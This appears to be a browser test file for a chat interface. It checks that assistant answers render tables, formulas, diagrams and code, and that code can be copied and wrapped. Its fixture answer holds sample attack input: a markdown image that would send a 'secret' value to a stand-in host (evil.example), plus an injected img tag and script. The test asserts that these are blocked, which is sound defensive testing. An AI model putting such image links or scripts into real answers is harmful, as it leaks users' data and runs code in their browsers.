// How a conversation is shown: what answers are made of.
// The server's part is played by the page's own routes, so that every text is known.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { assertSound, launch, looks, newPage } from "./browser.mjs";
import * as steps from "./steps.mjs";

let browser;
let state;

before(async () => {
  browser = await launch();
  const page = await newPage(browser);
  await steps.register(page);
  state = await page.context().storageState();
  await page.context().close();
});

after(() => browser?.close());

const id = "01900000-0000-7000-8000-000000000000";

/** A page on a conversation with the given messages: texts, question and answer by turns. */
async function conversation(texts, look = {}) {
  const page = await newPage(browser, { ...look, storageState: state });
  const messages = texts.map((content, n) => ({
    id: `m${n}`,
    conversationId: id,
    parentId: n === 0 ? "" : `m${n - 1}`,
    role: n % 2 === 0 ? "user" : "assistant",
    content,
    status: "complete",
    model: "",
    createdAt: "2026-01-01T00:00:00Z",
    usage: null,
    metadata: null,
    unreadable: false,
  }));
  const head = messages.at(-1)?.id ?? "";
  const now = new Date().toISOString();
  await page.route(`**/api/chat/conversations/${id}`, (route) =>
    route.fulfill({
      json: { id, title: "Known", createdAt: now, updatedAt: now, model: "", headMessageId: head },
    }),
  );
  await page.route(`**/api/chat/conversations/${id}/messages?*`, (route) => {
    const query = new URL(route.request().url()).searchParams;
    const end = Number(query.get("pageToken") || messages.length);
    const start = Math.max(0, end - Number(query.get("pageSize")));
    const found = messages.slice(start, end).reverse();
    return route.fulfill({ json: { messages: found, nextPageToken: start ? String(start) : "" } });
  });
  await page.goto(`/chat/${id}`);
  await page.getByRole("article", { name: "Assistant" }).last().waitFor();
  return page;
}

const rich = `Some **bold** words and a [link](https://example.org/).

| Tide | Height |
|---|---|
| high | 4.2 m |

$$
\\int_0^1 x^2 dx
$$

\`\`\`mermaid
flowchart LR
  A[Sea] --> B[Shore]
\`\`\`

\`\`\`go
func main() { println("a line that is long enough to leave the block of code on any screen, and then some more") }
\`\`\`

![chart](https://evil.example/leak.png?q=secret)

<img src="https://evil.example/raw.png"><script>window.hacked = true</script>
`;

for (const look of looks) {
  const label = `${look.colorScheme}, ${look.viewport.width} px`;
  test(`an answer shows tables, formulas, diagrams and code (${label})`, async () => {
    const page = await conversation(["Show me everything", rich], look);
    const asked = [];
    page.on("request", (request) => asked.push(request.url()));
    const answer = steps.lastAnswer(page);
    await answer.getByRole("table").waitFor();
    await answer.locator(".katex").first().waitFor();
    await answer.getByRole("img", { name: "Diagram" }).waitFor();
    await answer.locator(".code-token[style]").first().waitFor();
    await answer.getByText("Image from evil.example, not loaded by itself").waitFor();
    assert.deepEqual(await answer.locator("img, script").count(), 0);
    assert.equal(await page.evaluate(() => window.hacked), undefined);
    assert.deepEqual(
      asked.filter((url) => url.includes("evil.example")),
      [],
    );
    await assertSound(page, `a rich answer (${label})`);
    await page.context().close();
  });
}

test("code is copied, and its long lines are broken on request", async () => {
  const page = await conversation(["Code?", rich], {
    permissions: ["clipboard-read", "clipboard-write"],
  });
  await page.getByRole("button", { name: "Copy code" }).last().click();
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  assert.ok(copied.startsWith("func main()"));
  const block = page.locator("pre").last();
  const sideways = () => block.evaluate((pre) => pre.scrollWidth > pre.clientWidth);
  assert.equal(await sideways(), true);
  await page.getByRole("button", { name: "Wrap lines" }).last().click();
  assert.equal(await sideways(), false);
  await page.context().close();
});
